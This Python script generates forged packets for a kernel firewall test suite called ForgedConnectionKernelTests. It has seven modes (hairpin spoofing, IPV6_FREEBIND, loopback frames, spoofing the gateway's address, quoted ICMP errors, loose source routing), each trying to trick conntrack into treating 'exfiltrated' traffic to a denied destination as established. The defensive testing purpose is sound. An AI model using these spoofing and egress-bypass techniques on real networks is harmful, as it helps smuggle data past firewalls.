# Forged packets for ForgedConnectionKernelTests: ways a host inside makes conntrack call its
# packets to a denied destination "established". Each mode prints what it saw, for the test.
#
#   forge.py hairpin IFACE GWMAC ME OUT PORT_ME PORT_OUT
#       A UDP packet from OUT:PORT_OUT to ME:PORT_ME, in an Ethernet frame to the gateway (which
#       routes it back in); then, from ME:PORT_ME, a datagram to OUT:PORT_OUT (its "reply").
#   forge.py freebind ME OUT PORT_ME PORT_OUT
#       The same over loopback, unprivileged: an IPv6 socket bound to OUT with IPV6_FREEBIND sends
#       to ME; then ME answers OUT.
#   forge.py toself IFACE GWMAC OUT GW PORT_OUT PORT_GW
#       A UDP packet from OUT:PORT_OUT to the gateway's own address GW:PORT_GW (a connection that
#       ends at the gateway), in an Ethernet frame to the gateway.
#   forge.py quote ME OUT TO PORT_OUT PORT_TO
#       From ME: an ICMP(v6) port unreachable to OUT quoting OUT:PORT_OUT -> TO:PORT_TO (a
#       connection to the gateway, or another host's), with a kilobyte of data of its own.
#   forge.py asgateway IFACE GWMAC GW OUT PORT_GW PORT_OUT
#       A UDP datagram from GW:PORT_GW (the gateway's own address) to OUT:PORT_OUT, in a frame.
#   forge.py loopback ME OUT PORT_ME PORT_OUT
#       A frame on lo (CAP_NET_RAW) from OUT:PORT_OUT to ME:PORT_ME, then ME answers OUT.
#   forge.py lsrr IFACE GWMAC ME GW OUT
#       An echo to the gateway (answered: the connection is established), then one of the same id
#       to the gateway with a loose source route on to OUT.
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def ipv4(src, dst, proto, payload, options=b""):
    ihl = 5 + len(options) // 4
    header = struct.pack("!BBHHHBBH4s4s", 4 << 4 | ihl, 0, ihl * 4 + len(payload), 0x5151, 0, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst)) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def ipv6(src, dst, next_header, payload):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), next_header, 64,
                       socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)) + payload


def udp(src, dst, sport, dport, data):
    v6 = ":" in src
    segment = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    if v6:
        pseudo = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) \
            + struct.pack("!IxxxB", len(segment), 17)
    else:
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(segment))
    return segment[:6] + struct.pack("!H", checksum(pseudo + segment) or 0xFFFF) + segment[8:]


def echo(ident, sequence, data):
    message = struct.pack("!BBHHH", 8, 0, 0, ident, sequence) + data
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def send_frame(iface, gateway_mac, packet, v6):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    own = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))
    raw.send(bytes.fromhex(gateway_mac.replace(":", "")) + own + struct.pack("!H", 0x86DD if v6 else 0x0800) + packet)
    raw.close()


def receive(sock, seconds):
    sock.settimeout(seconds)
    try:
        return sock.recvfrom(2048)[0]
    except socket.timeout:
        return None


def hairpin(iface, gateway_mac, me, out, port_me, port_out):
    v6 = ":" in me
    sock = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((me, port_me))
    datagram = udp(out, me, port_out, port_me, b"prime")
    send_frame(iface, gateway_mac, ipv6(out, me, 17, datagram) if v6 else ipv4(out, me, 17, datagram), v6)
    print("primed" if receive(sock, 5) == b"prime" else "not primed")
    sock.sendto(b"exfiltrated", (out, port_out))


def freebind(me, out, port_me, port_out):
    forged = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    forged.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: no privilege needed
    forged.bind((out, port_out))
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.bind((me, port_me))
    forged.sendto(b"prime", (me, port_me))
    print("primed" if receive(sock, 5) == b"prime" else "not primed")
    sys.stdout.flush()
    try:
        sock.sendto(b"exfiltrated", (out, port_out))
    except PermissionError:
        print("refused")  # the output hook dropped it: the kernel says so to a local sender


def toself(iface, gateway_mac, out, gateway, port_out, port_gateway):
    datagram = udp(out, gateway, port_out, port_gateway, b"prime")
    v6 = ":" in out
    send_frame(iface, gateway_mac, ipv6(out, gateway, 17, datagram) if v6 else ipv4(out, gateway, 17, datagram), v6)
    print("sent")


def quote(me, out, gateway, port_out, port_gateway):
    v6 = ":" in me
    inner = udp(out, gateway, port_out, port_gateway, b"")
    quoted = ipv6(out, gateway, 17, inner) if v6 else ipv4(out, gateway, 17, inner)
    message = struct.pack("!BBHI", 1 if v6 else 3, 4 if v6 else 3, 0, 0) + quoted + b"X" * 1000
    if v6:
        raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)  # the kernel sums it
        raw.bind((me, 0))
    else:
        message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        raw.bind((me, 0))
    try:
        raw.sendto(message, (out, 0))
        print("sent")
    except PermissionError:
        print("refused")


def asgateway(iface, gateway_mac, gateway, out, port_gateway, port_out):
    v6 = ":" in out
    datagram = udp(gateway, out, port_gateway, port_out, b"exfiltrated")
    send_frame(iface, gateway_mac, ipv6(gateway, out, 17, datagram) if v6 else ipv4(gateway, out, 17, datagram), v6)
    print("sent")


def loopback(me, out, port_me, port_out):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((me, port_me))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("lo", 0))
    raw.send(b"\0" * 12 + struct.pack("!H", 0x0800) + ipv4(out, me, 17, udp(out, me, port_out, port_me, b"prime")))
    print("primed" if receive(sock, 5) == b"prime" else "not primed")
    sys.stdout.flush()
    try:
        sock.sendto(b"exfiltrated", (out, port_out))
    except PermissionError:
        print("refused")


def lsrr(iface, gateway_mac, me, gateway, out):
    listener = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    ident = 0x5A5A
    send_frame(iface, gateway_mac, ipv4(me, gateway, 1, echo(ident, 1, b"hello")), False)
    deadline = time.time() + 5
    answered = False
    while time.time() < deadline and not answered:
        packet = receive(listener, 1)
        answered = packet is not None and packet[20] == 0 and struct.unpack("!H", packet[24:26])[0] == ident
    print("primed" if answered else "not primed")
    route = bytes([131, 7, 4]) + socket.inet_aton(out) + b"\x01"  # loose source route, then a no-op
    send_frame(iface, gateway_mac, ipv4(me, gateway, 1, echo(ident, 2, b"exfiltrated"), route), False)


if __name__ == "__main__":
    mode, arguments = sys.argv[1], sys.argv[2:]
    if mode == "hairpin":
        hairpin(arguments[0], arguments[1], arguments[2], arguments[3], int(arguments[4]), int(arguments[5]))
    elif mode == "freebind":
        freebind(arguments[0], arguments[1], int(arguments[2]), int(arguments[3]))
    elif mode == "toself":
        toself(arguments[0], arguments[1], arguments[2], arguments[3], int(arguments[4]), int(arguments[5]))
    elif mode == "quote":
        quote(arguments[0], arguments[1], arguments[2], int(arguments[3]), int(arguments[4]))
    elif mode == "asgateway":
        asgateway(arguments[0], arguments[1], arguments[2], arguments[3], int(arguments[4]), int(arguments[5]))
    elif mode == "loopback":
        loopback(arguments[0], arguments[1], int(arguments[2]), int(arguments[3]))
    elif mode == "lsrr":
        lsrr(*arguments)
    sys.stdout.flush()
